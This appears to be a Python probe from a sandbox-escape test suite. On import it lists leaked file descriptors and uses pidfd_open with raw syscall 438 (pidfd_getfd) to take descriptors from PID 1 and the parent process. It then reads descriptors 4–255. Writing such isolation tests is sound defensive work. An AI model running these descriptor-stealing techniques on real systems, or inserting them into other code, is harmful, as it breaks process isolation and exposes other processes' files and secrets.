"""Reads, writes, duplicates and asks for every descriptor there may be."""

import ctypes
import os

ENTRIES = ("B23", "D53")
SEEN = ("descriptor-probe",)


def attack(asked, *given):
    if asked != "import":
        return None
    open_ones = [int(number) for number in os.listdir("/proc/self/fd")]
    for number in open_ones:
        target = tried(os.readlink, f"/proc/self/fd/{number}") or ""
        if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/usr/", "/box", "/tmp")):
            escaped(target)
    library = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid()):
        handle = tried(os.pidfd_open, pid) if pid else None
        if handle is not None:
            for number in range(64):
                if library.syscall(438, handle, number, 0) >= 0:
                    escaped("a descriptor of another process")
    for number in range(4, 256):
        tell(tried(lambda: os.pread(number, 4096, 0)) or b"")
    return None
